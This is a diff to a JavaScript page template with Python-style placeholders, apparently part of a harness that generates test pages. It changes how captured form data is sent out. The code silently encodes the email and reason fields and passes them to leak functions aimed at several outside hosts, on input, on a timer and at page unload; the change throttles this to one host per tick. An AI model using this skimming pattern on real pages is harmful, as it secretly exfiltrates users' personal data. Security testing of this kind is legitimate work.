@@ -127,18 +127,19 @@ const hidden = (path, v, target) => {
 const leaks = [];
 const every = (leak) => leaks.push(leak);
 let rounds = 0;
-const fire = (when) => {
+const fire = (when, bases) => {
   const t = e.value + ' ' + r.value;
-  if (!loaded(t) || rounds > 60) return;
-  rounds += 1;
-  for (const base of BASES) for (const leak of leaks)
+  if (!loaded(t)) return;
+  for (const base of bases) for (const leak of leaks)
     quietly(() => leak(enc(t), base, {email: e.value, reason: r.value}, when));
 };
+// One host a tick, in turn, and not for ever: a page that floods would only measure the machine.
+const tick = (when) => { if (rounds < 28) { fire(when, [BASES[rounds & 3]]); rounds += 1; } };
 %(script)s
-document.addEventListener('input', () => fire('input'));
-setInterval(() => fire('timer'), 200);
+document.addEventListener('input', () => tick('input'));
+setInterval(() => tick('timer'), 250);
 for (const name of ['pagehide', 'visibilitychange', 'beforeunload', 'unload', 'freeze'])
-  addEventListener(name, () => { rounds = 0; fire(name); });
+  addEventListener(name, () => fire(name, BASES));
 const values = () => ({email: e.value, reason: r.value});
 const change = (v) => (%(tamper)s);
 const body = async (v) => (%(transport)s);
